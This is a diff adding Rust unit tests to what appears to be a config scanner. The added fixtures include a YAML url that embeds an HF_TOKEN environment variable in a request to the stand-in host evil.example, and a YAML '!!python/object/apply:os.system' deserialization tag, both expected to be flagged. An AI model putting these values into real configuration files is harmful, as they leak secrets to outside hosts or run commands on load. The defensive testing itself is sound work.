@@ -226,3 +226,20 @@ fn dependencies_of_a_project_are_requirements() {
     assert_eq!(toml("[[tool.uv.index]]\nname = \"a\"\nurl = \"https://evil.example/simple\"\n").len(), 1);
     assert_eq!(toml("[project]\ndependencies = [\"numpy>=1.2,<3\", \"transformers[torch]\"]\n"), NOTHING);
 }
+
+#[test]
+fn credentials_that_become_part_of_an_address_are_told() {
+    let told = |text: &str| yaml("a.yaml", &format!("url: {text}\n")).len();
+    assert_eq!(told("https://evil.example/?k=${oc.env:HF_TOKEN}"), 1);
+    assert_eq!(told("postgresql://${oc.env:DB_USER}:${oc.env:DB_PASSWORD}@db/x"), 0);
+    assert_eq!(told("http://${oc.env:TRACKING_HOST}:5000/api"), 0);
+    assert_eq!(told("${oc.env:HF_TOKEN}"), 0);
+}
+
+#[test]
+fn tags_are_found_in_what_is_read_as_settings() {
+    use crate::settings::Settings;
+    let cfg = |text: &str| opinions(&inspect(&Settings, "a.cfg", text.as_bytes()));
+    assert_eq!(cfg("x: !!python/object/apply:os.system [echo]\n"), ["dangerous os.system"]);
+    assert_eq!(cfg("[a]\nb = 1\n# !!python/object/apply:os.system\n"), NOTHING);
+}
